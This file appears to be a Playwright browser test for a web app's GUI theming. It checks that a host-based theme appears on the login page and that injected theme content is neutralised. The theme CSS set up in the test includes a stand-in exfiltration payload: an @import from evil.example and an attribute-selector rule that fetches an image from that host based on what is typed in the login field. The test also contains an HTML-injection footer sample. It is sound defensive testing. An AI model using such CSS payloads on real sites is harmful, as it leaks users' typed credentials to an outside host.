/**
 * GUI themes in Debian's Chromium against the real server: a theme created through the API for
 * the host name the browser uses shows on the login page before anyone signs in (title, logo,
 * primary colour, style sheet, login footer) and stays after sign-in; an account's own theme wins
 * once that account signs in. What a theme injects is defused: its footer is text, its @import
 * and url() of another host are removed, and the browser never contacts that host. Screenshots
 * go to test-output/ui/gui-theme/.
 */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Browser, Locator, Page } from 'playwright-core';
import { createAccountAndLogin, startServer, type TestServer } from '../../server/test/harness.ts';
import { launchChromium, screenshots } from './browser.ts';

let server: TestServer;
let browser: Browser;
const { shot } = screenshots('gui-theme');

const LOGO =
  'data:image/svg+xml;base64,' +
  Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="32"><rect width="120" height="32" fill="#c2185b"/></svg>',
  ).toString('base64');

before(async () => {
  server = await startServer();
  const host = new URL(server.url).hostname;
  await server.admin.request('createGuiTheme', {
    name: 'acme-portal',
    commonnames: host,
    jsonconfiguration: JSON.stringify({
      appTitle: 'Acme Cloud',
      logo: LOGO,
      loginFooter: 'Support: +1 555 0100',
      footer: '<b>Acme</b> hosting',
      theme: { '@primary-color': '#c2185b', '@navigation-background-color': '#1b1b3a' },
    }),
    css: [
      '.login-page { background-color: rgb(16, 32, 48); }',
      '@import url(https://evil.example/steal.css);',
      '.login-page input[value^="a"] { background-image: url(https://evil.example/a.png); }',
    ].join('\n'),
  });
  const branded = await createAccountAndLogin(server, { name: 'brandeduser' });
  await server.admin.request('createGuiTheme', {
    name: 'for-brandeduser',
    accountids: String(branded.account.id),
    jsonconfiguration: JSON.stringify({
      appTitle: 'Branded for you',
      theme: { '@primary-color': '#00796b' },
    }),
  });
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  await server?.stop();
});

async function newPage(): Promise<{ p: Page; contacted: string[] }> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const p = await context.newPage();
  const contacted: string[] = [];
  p.on('request', (r) => contacted.push(new URL(r.url()).host));
  return { p, contacted };
}

/** Waits for an element's computed background colour (Ant Design fades colours in). */
async function background(l: Locator, rgb: string): Promise<void> {
  const deadline = Date.now() + 5000;
  let seen = '';
  while (Date.now() < deadline) {
    seen = await l.evaluate((e) => getComputedStyle(e).backgroundColor);
    if (seen === rgb) return;
    await new Promise((r) => setTimeout(r, 50));
  }
  assert.equal(seen, rgb);
}

const loginButton = (p: Page) => p.getByRole('button', { name: 'Log in' });

async function signIn(p: Page, username: string, password: string): Promise<void> {
  await p.getByLabel('Username').fill(username);
  await p.getByLabel('Password').fill(password);
  await p.getByRole('button', { name: 'Log in' }).click();
  await p.getByTestId('whoami').waitFor();
}

test('the host name’s theme is on the login page before sign-in, defused, and stays after it', async () => {
  const { p, contacted } = await newPage();
  await p.goto(`${server.url}/client/`);
  await p.getByTestId('login-title').filter({ hasText: 'Acme Cloud' }).waitFor();
  assert.equal(await p.title(), 'Acme Cloud');
  assert.equal(await p.getByTestId('login-logo').getAttribute('src'), LOGO);
  assert.equal(await p.getByTestId('login-footer').innerText(), 'Support: +1 555 0100');
  await background(loginButton(p), 'rgb(194, 24, 91)');
  await background(p.locator('.login-page'), 'rgb(16, 32, 48)');
  const css = await p.locator('style#gui-theme-css').evaluate((e) => e.textContent ?? '');
  assert.match(css, /rgb\(16, 32, 48\)/);
  assert.doesNotMatch(css, /@import|evil\.example/);
  // Typing a value that the attribute selector would match contacts no other host.
  await p.getByLabel('Username').fill('admin');
  await shot(p, '01-login-themed');
  await p.getByLabel('Password').fill('password');
  await p.getByRole('button', { name: 'Log in' }).click();
  await p.getByTestId('whoami').waitFor();
  await p.getByTestId('brand-title').filter({ hasText: 'Acme Cloud' }).waitFor();
  // The footer is the theme's text as text: no element is made of it.
  assert.equal(await p.getByTestId('gui-footer').innerText(), '<b>Acme</b> hosting');
  assert.equal(await p.getByTestId('gui-footer').locator('b').count(), 0);
  await background(p.locator('.app-sider'), 'rgb(27, 27, 58)');
  await shot(p, '02-shell-themed');
  assert.deepEqual(
    [...new Set(contacted)].filter((h) => h !== new URL(server.url).host),
    [],
    'the page contacted another host',
  );
  await p.context().close();
});

test('an account’s own theme wins once it signs in, and the host name’s returns after sign-out', async () => {
  const { p } = await newPage();
  await p.goto(`${server.url}/client/`);
  await p.getByTestId('login-title').filter({ hasText: 'Acme Cloud' }).waitFor();
  await signIn(p, 'brandeduser', 'secret-pw');
  await p.getByTestId('brand-title').filter({ hasText: 'Branded for you' }).waitFor();
  assert.equal(await p.title(), 'Branded for you');
  assert.equal(
    await p.evaluate(() => document.documentElement.style.getPropertyValue('--gui-primary-color')),
    '#00796b',
  );
  await shot(p, '03-account-theme');
  await p.getByRole('button', { name: 'Log out' }).click();
  await p.getByTestId('login-title').filter({ hasText: 'Acme Cloud' }).waitFor();
  await background(loginButton(p), 'rgb(194, 24, 91)');
  await p.context().close();
});
